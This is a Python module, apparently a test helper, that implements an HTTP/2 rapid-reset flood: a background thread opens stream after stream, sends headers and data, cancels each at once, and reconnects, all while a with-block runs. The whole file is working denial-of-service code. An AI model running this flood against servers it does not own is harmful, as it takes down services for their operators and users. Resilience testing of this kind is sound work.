"""A client that opens HTTP/2 streams and resets each at once, as fast as its connection takes them."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

from . import http2


@contextmanager
def rapid_resets(address: str, path: str) -> Iterator[None]:
    """Begins and resets calls of a method inside the with, on one connection after another."""
    host, _, port = address.rpartition(":")
    over = threading.Event()
    begun = threading.Event()
    begin, empty = http2.headers(path), http2.message(b"")

    def attack() -> None:
        while not over.is_set():
            with suppress(OSError), socket.create_connection((host, int(port)), 5) as link:
                link.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, b""))
                stream = 1
                while not over.is_set():
                    block = b"".join(
                        http2.frame(http2.HEADERS, http2.END_HEADERS, one, begin)
                        + http2.frame(http2.DATA, http2.END_STREAM, one, empty)
                        + http2.frame(http2.RESET, 0, one, http2.CANCEL)
                        for one in range(stream, stream + 400, 2)
                    )
                    stream += 400
                    link.sendall(block)
                    begun.set()

    thread = threading.Thread(target=attack, name="resets", daemon=True)
    thread.start()
    assert begun.wait(10)
    try:
        yield
    finally:
        over.set()
        thread.join(20)
